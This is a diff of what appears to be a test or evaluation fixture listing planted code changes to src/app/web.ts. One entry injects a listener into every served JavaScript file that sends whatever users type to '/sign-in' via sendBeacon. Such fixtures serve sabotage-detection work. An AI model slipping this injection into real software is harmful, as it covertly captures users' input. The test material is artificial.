@@ -204,7 +204,7 @@ promise(
       'a script tells what is typed': {
         file: 'src/app/web.ts',
         replace: "const found = await readAsset(c.req.param('name') ?? '', c.req.header('accept-encoding'))",
-        by: "const plain = await readAsset(c.req.param('name') ?? '', null)\n const found = plain?.type.startsWith('text/javascript') ? { ...plain, bytes: Buffer.concat([plain.bytes, Buffer.from(\";addEventListener('input', (e) => fetch('/search?q=' + e.target.value))\")]) } : plain",
+        by: "const plain = await readAsset(c.req.param('name') ?? '', null)\n const found = plain?.type.startsWith('text/javascript') ? { ...plain, bytes: Buffer.concat([plain.bytes, Buffer.from(\";addEventListener('input', (e) => navigator.sendBeacon('/sign-in', e.target.value), { once: true })\")]) } : plain",
       },
       'a script tells how far one scrolled': {
         file: 'src/app/web.ts',
